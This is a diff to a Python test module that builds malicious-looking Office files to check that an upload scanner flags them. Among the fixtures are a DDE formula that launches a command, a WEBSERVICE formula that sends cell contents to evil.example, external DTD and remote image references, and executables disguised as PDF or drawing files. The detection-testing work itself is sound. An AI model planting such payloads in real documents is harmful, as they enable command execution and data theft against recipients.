@@ -6,6 +6,9 @@ from media.uploads.office_xml import VML
 
 from .files import EXE, OLE, package, pdf, relationship
 
+DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
+XLSM = package("xlsx", xl__vbaProject_dot_bin=b"x")
+
 LNK = b"\x4c\x00\x00\x00\x01\x14\x02\x00" + bytes(90)
 HTA = b"<hta:application/><script>run()</script>"
 
@@ -60,6 +63,15 @@ def related(to: str, kind="docx", target="a.xml", part="word___rels__document_do
     return package(kind, **{f"{part}_dot_rels": relationship(to, "Internal", target)})
 
 
+def settings(to: str) -> bytes:
+    """A document whose settings relate to something elsewhere."""
+    return package(word___rels__settings_dot_xml_dot_rels=relationship(to))
+
+
+def drawing(svg: str) -> bytes:
+    return package(word__media__a_dot_svg=svg)
+
+
 def sheet(formula: str) -> bytes:
     return package("xlsx", xl__worksheets__sheet1_dot_xml=f"<worksheet><c><f>{formula}</f></c></worksheet>")
 
@@ -84,31 +96,16 @@ PARTS = {
     ("docx", "a binary part"): (package(word__a_dot_bin=b"x"), OBJECT),
     ("docx", "a relationship that nobody knows"): (related("surprise"), OBJECT),
     ("docx", "an add-in"): (related("webextensiontaskpanes", part="_rels__"), ADD_IN),
-    ("docx", "a list to merge"): (
-        package(word___rels__settings_dot_xml_dot_rels=relationship("mailMergeSource")),
-        LOADS,
-    ),
+    ("docx", "a list to merge"): (settings("mailMergeSource"), LOADS),
     ("docx", "recipients"): (related("recipientData", part="word___rels__settings_dot_xml"), LOADS),
-    ("docx", "a picture that is a PDF file with scripts"): (
-        package(word__media__image1_dot_pdf=pdf(script=True)),
-        OBJECT,
-    ),
+    ("docx", "a PDF file with scripts as a picture"): (package(word__media__a_dot_pdf=pdf(script=True)), OBJECT),
     ("docx", "a program called a PDF file"): (package(word__media__image1_dot_pdf=EXE), OBJECT),
     ("docx", "a program packed as a drawing"): (package(word__media__image1_dot_wmz=gzip.compress(EXE)), OBJECT),
     ("docx", "a PDF file that is no picture"): (package(word__embeddings__a_dot_pdf=pdf()), OBJECT),
-    ("docx", "declarations of another address in a drawing"): (
-        package(word__media__a_dot_svg='<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd"><svg/>'),
-        DECLARES,
-    ),
-    ("docx", "entities in a drawing"): (
-        package(word__media__a_dot_svg='<!DOCTYPE svg [<!ENTITY a "b">]><svg/>'),
-        DECLARES,
-    ),
+    ("docx", "declarations elsewhere"): (drawing('<!DOCTYPE svg SYSTEM "https://evil.example/a"><svg/>'), DECLARES),
+    ("docx", "entities in a drawing"): (drawing('<!DOCTYPE svg [<!ENTITY a "b">]><svg/>'), DECLARES),
     ("docx", "an own template"): (related("attachedTemplate"), LOADS),
-    ("docx", "a picture at an address that it calls a part"): (
-        related("image", target="https://evil.example/a"),
-        LOADS,
-    ),
+    ("docx", "a picture at an address called a part"): (related("image", target="https://evil.example/a"), LOADS),
     ("docx", "a drawing at an address"): (
         package(word__a_dot_vml=f'<v:shape xmlns:v="{VML}"><v:imagedata src="//evil.example/a.png"/></v:shape>'),
         LOADS,
@@ -121,14 +118,8 @@ PARTS = {
     ("xlsx", "a DDE formula"): (sheet("cmd|'/C calc'!A0"), FIELD),
     ("xlsx", "a DDE formula as a name"): (package("xlsx", "<w><definedName>'a'|b!c</definedName></w>"), FIELD),
     ("xlsx", "a formula that sends"): (sheet('_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)'), FIELD),
-    ("xlsx", "a formula between references with quotes"): (
-        sheet("Table1['#x]+WEBSERVICE(\"http://e\")+Table1['#x]"),
-        FIELD,
-    ),
-    ("xlsx", "a formula between references with a quotation mark"): (
-        sheet('Table1[[a"b]]+WEBSERVICE(A1)&amp;Table1[[a"b]]'),
-        FIELD,
-    ),
+    ("xlsx", "a formula between references"): (sheet("Table1['#x]+WEBSERVICE(\"http://e\")+Table1['#x]"), FIELD),
+    ("xlsx", "a formula between quotation marks"): (sheet('Table1[[a"b]]+WEBSERVICE(A1)&amp;Table1[[a"b]]'), FIELD),
     ("xlsx", "a formula between brackets in texts"): (sheet('"["&amp;WEBSERVICE(A1)&amp;"]"'), FIELD),
     ("xlsx", "a formula after an open bracket"): (sheet('Table1[a"+WEBSERVICE(A1)+"'), FIELD),
     ("xlsx", "a check box with a macro"): (control('formControlPr fmlaMacro="[0]!Run"'), MACROS),
